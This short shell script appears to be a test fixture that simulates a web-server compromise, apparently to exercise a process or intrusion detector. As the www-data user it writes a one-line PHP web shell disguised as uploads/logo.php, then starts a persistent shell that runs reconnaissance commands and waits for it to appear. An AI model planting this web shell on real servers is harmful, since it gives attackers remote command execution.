#= added processes path=/usr/bin/dash ; uid=33
mkdir -p /var/www/html/uploads
echo '<?php system($_GET["c"]); ?>' >/var/www/html/uploads/logo.php
background setpriv --reuid=33 --regid=33 --clear-groups /bin/sh -c 'id; uname -a; sleep infinity; true'
shell_of_33() {
  for status in /proc/[0-9]*/status; do
    if grep -q '^Name:.sh$' "$status" 2>/dev/null && grep -q '^Uid:.33' "$status" 2>/dev/null; then return 0; fi
  done
  return 1
}
until_true "the shell runs" shell_of_33
